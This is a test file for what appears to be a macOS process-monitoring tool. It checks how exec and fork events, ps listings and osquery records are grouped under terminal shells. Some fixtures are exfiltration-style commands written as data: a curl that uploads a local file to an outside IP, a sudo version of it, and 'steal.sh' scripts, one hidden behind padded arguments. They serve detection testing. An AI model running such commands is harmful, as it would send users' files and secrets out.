/**
 * A subshell mark (forkedOnly) and a fork's inheritance whatever order ES lines, ps and core snapshots arrive in, and
 * argv as process listings print it (review cases).
 */
import { describe, expect, it } from 'vitest';
import { body, esLine } from './testing/es-lines.mjs';
import { LOGIN_ZSH as zsh, S, T, psArgs, terminalSession } from './testing/terminal-session.js';

describe('forkedOnly', () => {
  it('exec line read before the fork line: a nested `zsh` typed in a `zsh` stays its own root', () => {
    const { processes, pipeline } = terminalSession();
    const outer = { ...zsh, pid: 830, ppid: 810, startMs: T - 900 };
    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 900, gseq: 1, process: zsh, body: body.exec(outer, ['zsh'], '/Users/dana', 10) }));
    const nested = { ...zsh, pid: 840, ppid: 830, startMs: T - 500 };
    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 500, gseq: 3, process: nested, body: body.exec(nested, ['zsh'], '/Users/dana', 10) }));
    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 500, gseq: 2, process: outer, body: body.fork(nested, 10) }));
    expect(processes.get(840)!.forkedOnly).toBeUndefined();
    expect(processes.group(processes.get(840)!).root.pid).toBe(840);
  });

  it('late fork line whose parent is not in the model leaves the exec\'d image alone', () => {
    const { processes, pipeline } = terminalSession('no-shell'); // 810 not known yet (extension just started / evicted)
    const child = { ...zsh, pid: 840, ppid: 810, startMs: T - 500 };
    const curl = { ...child, path: '/usr/bin/curl', signingId: 'com.apple.curl' };
    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 500, gseq: 3, process: child, body: body.exec(curl, ['curl', '-T', '/tmp/k', 'https://203.0.113.5/'], '/Users/dana', 10) }));
    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 500, gseq: 2, process: zsh, body: body.fork(child, 10) }));
    expect(processes.get(840)).toMatchObject({ path: '/usr/bin/curl', signingId: 'com.apple.curl', args: ['curl', '-T', '/tmp/k', 'https://203.0.113.5/'] });
    expect(processes.get(840)!.forkedOnly).toBeUndefined();
  });

  it('ps (no core: comm is argv[0]) lists a subshell of `curl … | /opt/homebrew/bin/bash` before its fork line: still fed on the pipe, no root', () => {
    const { processes, pipeline } = terminalSession();
    const bash = { ...zsh, pid: 830, ppid: 810, path: '/opt/homebrew/Cellar/bash/5.2.37/bin/bash', signingId: 'bash', startMs: T - 1000 };
    const b = { ...body.exec(bash, ['/opt/homebrew/bin/bash'], '/Users/dana', 10), fds: [{ fd: 0, fdtype: 6 }] };
    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 1000, gseq: 1, process: { ...bash, path: '/bin/zsh' }, body: b }));
    processes.observe({ pid: 840, processStart: Math.floor((T - 500) / 1000), ppid: 830, path: '/opt/homebrew/bin/bash', args: ['/opt/homebrew/bin/bash'], uid: 501, source: 'ps', seenAt: S });
    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 500, gseq: 2, process: bash, body: body.fork({ ...bash, pid: 840, ppid: 830, startMs: T - 500 }, 10) }));
    expect(processes.get(840)!.stdin).toBe('pipe');
    expect(processes.group(processes.get(840)!).root.pid).toBe(810);
  });

  it('exec of a nested `zsh` dropped by ES (global_seq gap): ps shows a new argv and core the same path; it is a shell of its own', () => {
    const { processes, pipeline } = terminalSession();
    const nested = { ...zsh, pid: 880, ppid: 810, startMs: T - 200 };
    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 200, gseq: 7, process: zsh, body: body.fork(nested, 10) }));
    // gseq 8 (the exec of /bin/zsh as `zsh`) lost
    processes.observe({ pid: 880, processStart: S, ppid: 810, name: 'zsh', args: ['zsh'], uid: 501, source: 'ps', seenAt: S + 5 });
    processes.observe({ pid: 880, processStart: S, path: '/bin/zsh', source: 'osquery', seenAt: S + 5 });
    expect(processes.group(processes.get(880)!).root.pid).toBe(880);
  });
});

const SI = '/Applications/Visual Studio Code.app/Contents/Resources/app/out/vs/workbench/contrib/terminal/common/scripts';

describe('an IDE terminal\'s shell and ps\'s whitespace-split argv', () => {
  it.each([
    ['VS Code bash', '/bin/bash', ['/bin/bash', '--init-file', `${SI}/shellIntegration-bash.sh`]],
    ['VS Code fish', '/opt/homebrew/bin/fish', ['fish', '--init-command', `source "${SI}/shellIntegration.fish"`]],
  ])('%s', (_n, path, argv) => {
    const { processes, pipeline } = terminalSession('none');
    const seen = S - 3600;
    processes.observe({ pid: 700, processStart: seen, ppid: 1, path: '/Applications/Visual Studio Code.app/Contents/MacOS/Electron', signingId: 'com.microsoft.VSCode', teamId: 'UBF8T346G9', source: 'osquery', seenAt: seen });
    processes.observe({ pid: 710, processStart: seen + 5, ppid: 700, path: '/Applications/Visual Studio Code.app/Contents/Frameworks/Code Helper.app/Contents/MacOS/Code Helper', signingId: 'com.microsoft.VSCode.helper', teamId: 'UBF8T346G9', source: 'osquery', seenAt: seen });
    const shell = { pid: 850, ppid: 710, path, signingId: 'com.example.shell', teamId: null, platform: true, startMs: T - 1000, tty: '/dev/ttys004' };
    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 1000, gseq: 1, process: { ...shell, path: '/Applications/Visual Studio Code.app/Contents/Frameworks/Code Helper.app/Contents/MacOS/Code Helper' }, body: body.exec(shell, argv, '/Users/dana/src', 10) }));
    const r = processes.get(850)!;
    expect(processes.group(r).rootKind).toBe('terminal_shell'); // passes: kernel argv
    // next ps snapshot (refresh.ts: ps -axww -o pid=,args=; core gives the same path)
    processes.observe({ pid: 850, processStart: Math.floor((T - 1000) / 1000), ppid: 710, uid: 501, name: path.slice(path.lastIndexOf('/') + 1), args: psArgs(850, argv), source: 'ps', seenAt: S + 60 });
    processes.observe({ pid: 850, processStart: Math.floor((T - 1000) / 1000), path, source: 'osquery', seenAt: S + 60 });
    expect(processes.group(r)).toMatchObject({ rootKind: 'terminal_shell', root: { pid: 850 } });
  });
});

const bash = { ...zsh, pid: 840, ppid: 810, path: '/bin/bash', signingId: 'com.apple.bash', startMs: T - 1000 };

describe('script shells stay in the terminal shell\'s group', () => {
  it('`bash \' \'` (script file named " ") and its `( … )` subshell after a ps snapshot', () => {
    const { processes, pipeline } = terminalSession();
    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 1000, gseq: 1, process: { ...bash, path: '/bin/zsh' }, body: body.exec(bash, ['bash', ' '], '/tmp', 10) }));
    const sub = { ...bash, pid: 850, ppid: 840, startMs: T - 500 };
    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 500, gseq: 2, process: bash, body: body.fork(sub, 10) }));
    expect(processes.group(processes.get(850)!).root.pid).toBe(810); // passes before ps
    for (const [pid, start] of [[840, T - 1000], [850, T - 500]] as const) {
      processes.observe({ pid, processStart: Math.floor(start / 1000), ppid: pid === 840 ? 810 : 840, uid: 501, name: 'bash', args: psArgs(pid, ['bash', ' ']), source: 'ps', seenAt: S + 60 });
      processes.observe({ pid, processStart: Math.floor(start / 1000), path: '/bin/bash', source: 'osquery', seenAt: S + 60 });
    }
    // the subshell (the keychain read) and its script (the upload) are one group
    expect(processes.group(processes.get(850)!).root.pid).toBe(processes.group(processes.get(840)!).root.pid);
    expect(processes.group(processes.get(850)!).root.pid).toBe(810);
  });

  it('`bash -o vi ×32 /tmp/steal.sh`: argv cut at 64 arguments hides the script operand', () => {
    const { processes, pipeline } = terminalSession();
    const argv = ['bash', ...Array.from({ length: 32 }, () => ['-o', 'vi']).flat(), '/tmp/steal.sh'];
    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 1000, gseq: 1, process: { ...bash, path: '/bin/zsh' }, body: body.exec(bash, argv, '/tmp', 10) }));
    expect(processes.group(processes.get(840)!).root.pid).toBe(810);
  });
});

it('late fork line of a setuid exec (sudo) keeps the exec\'s euid', () => {
  const { processes, pipeline } = terminalSession('none');
  const child = { ...zsh, pid: 840, ppid: 810, startMs: T - 500 };
  const sudo = { ...child, path: '/usr/bin/sudo', signingId: 'com.apple.sudo', uid: 0 };
  pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 500, gseq: 3, process: child, body: body.exec(sudo, ['sudo', 'curl', '-T', '/tmp/k', 'https://203.0.113.5/'], '/Users/dana', 10) }));
  expect(processes.get(840)!.uid).toBe(0);
  pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 500, gseq: 2, process: zsh, body: body.fork(child, 10) }));
  expect(processes.get(840)).toMatchObject({ path: '/usr/bin/sudo', signingId: 'com.apple.sudo', uid: 0 });
});

describe('argv a listing gives against the exec\'s (review cases)', () => {
it('`bash \' \' --xxx…(300 chars)` (script file named " ") stays in the terminal shell\'s group after a ps snapshot', () => {
  const { processes, pipeline } = terminalSession();
  const argv = ['bash', ' ', `--${'x'.repeat(300)}`];
  pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 1000, gseq: 1, process: { ...bash, path: '/bin/zsh' }, body: body.exec(bash, argv, '/tmp', 10) }));
  expect(processes.group(processes.get(840)!).root.pid).toBe(810); // passes: kernel argv, a script
  // next snapshot, as refresh.ts feeds it: ps args (printed `bash   --xxx…`, split on whitespace), then core's path
  processes.observe({ pid: 840, processStart: Math.floor((T - 1000) / 1000), ppid: 810, uid: 501, name: 'bash', args: psArgs(840, argv), source: 'ps', seenAt: S + 60 });
  processes.observe({ pid: 840, processStart: Math.floor((T - 1000) / 1000), path: '/bin/bash', source: 'osquery', seenAt: S + 60 });
  const r = processes.get(840)!;
  expect({ root: processes.group(r).root.pid, args0to1: r.args!.slice(0, 2), argsCut: r.argsCut }).toEqual({ root: 810, args0to1: ['bash', ' '], argsCut: undefined });
});

it('an IDE fish started with a >256-character --init-command keeps its root after a ps snapshot', () => {
  const { processes, pipeline } = terminalSession('none');
  const seen = S - 3600;
  processes.observe({ pid: 700, processStart: seen, ppid: 1, path: '/Applications/Visual Studio Code.app/Contents/MacOS/Electron', signingId: 'com.microsoft.VSCode', teamId: 'UBF8T346G9', source: 'osquery', seenAt: seen });
  processes.observe({ pid: 710, processStart: seen + 5, ppid: 700, path: '/Applications/Visual Studio Code.app/Contents/Frameworks/Code Helper.app/Contents/MacOS/Code Helper', signingId: 'com.microsoft.VSCode.helper', teamId: 'UBF8T346G9', source: 'osquery', seenAt: seen });
  const si = '/Applications/Visual Studio Code.app/Contents/Resources/app/out/vs/workbench/contrib/terminal/common/scripts/shellIntegration.fish';
  const init = `source "${si}"; set -gx PATH /opt/homebrew/bin /Users/dana/.cargo/bin $PATH; set -gx EDITOR "code --wait"; set -g fish_greeting; fish_vi_key_bindings`;
  expect(init.length).toBeGreaterThan(256);
  const argv = ['/opt/homebrew/bin/fish', '--init-command', init];
  const shell = { pid: 850, ppid: 710, path: '/opt/homebrew/bin/fish', signingId: 'fish', teamId: null, platform: false, startMs: T - 1000, tty: '/dev/ttys004' };
  pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 1000, gseq: 1, process: { ...shell, path: '/Applications/Visual Studio Code.app/Contents/Frameworks/Code Helper.app/Contents/MacOS/Code Helper' }, body: body.exec(shell, argv, '/Users/dana/src', 10) }));
  const r = processes.get(850)!;
  expect(processes.group(r).rootKind).toBe('terminal_shell'); // passes: kernel argv
  processes.observe({ pid: 850, processStart: Math.floor((T - 1000) / 1000), ppid: 710, uid: 501, name: 'fish', args: psArgs(850, argv), source: 'ps', seenAt: S + 60 });
  processes.observe({ pid: 850, processStart: Math.floor((T - 1000) / 1000), path: '/opt/homebrew/bin/fish', source: 'osquery', seenAt: S + 60 });
  expect(processes.group(r)).toMatchObject({ rootKind: 'terminal_shell', root: { pid: 850 } });
});

it('`bash steal.sh` exec\'d from -zsh keeps its kernel argv when a snapshot listed it just before the exec', () => {
  const { processes, pipeline } = terminalSession();
  const child = { ...zsh, pid: 840, ppid: 810, startMs: T - 100 };
  pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 100, gseq: 1, process: zsh, body: body.fork(child, 10) }));
  // ps runs now and lists 840 as the forked `-zsh`; before refresh applies it, the exec line is read
  const listed = psArgs(840, ['-zsh']);
  pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 99, gseq: 2, process: child, body: body.exec({ ...child, path: '/bin/bash', signingId: 'com.apple.bash' }, ['bash', 'steal.sh'], '/tmp', 10) }));
  processes.observe({ pid: 840, processStart: Math.floor((T - 100) / 1000), ppid: 810, uid: 501, name: '-zsh', args: listed, source: 'ps', seenAt: S + 1 });
  const r = processes.get(840)!;
  expect({ args: r.args, root: processes.group(r).root.pid }).toEqual({ args: ['bash', 'steal.sh'], root: 810 });
});

it('a shell listed with a cut argv that then exec\'s `/bin/zsh -l` (no eslogger) becomes the interactive root it is', () => {
  const { processes } = terminalSession(); // Terminal 800 → login 805 → -zsh 810, from ps
  const start = S - 600;
  // a bootstrap a terminal profile runs: `/bin/zsh -l -c '<80-word setup>; exec /bin/zsh -l'` (ps splits it: > 64 words)
  const setup = Array.from({ length: 80 }, (_, i) => `export V${i}=1;`).join(' ');
  const bootstrap = ['/bin/zsh', '-l', '-c', `${setup} exec /bin/zsh -l`];
  const snapshot = (argv: string[], at: number) => {
    processes.observe({ pid: 840, processStart: start, ppid: 810, uid: 501, name: 'zsh', args: psArgs(840, argv), tty: true, source: 'ps', seenAt: at });
    processes.observe({ pid: 840, processStart: start, path: '/bin/zsh', source: 'osquery', seenAt: at });
  };
  snapshot(bootstrap, S - 595);
  expect(processes.get(840)!.argsCut).toBe(true); // right: ps's listing is longer than the model keeps
  snapshot(['/bin/zsh', '-l'], S + 5); // after `exec /bin/zsh -l`: the whole argv, 2 arguments, nothing cut
  const r = processes.get(840)!;
  expect({ args: r.args, argsCut: r.argsCut, root: processes.group(r).root.pid }).toEqual({ args: ['/bin/zsh', '-l'], argsCut: undefined, root: 840 });
});
});
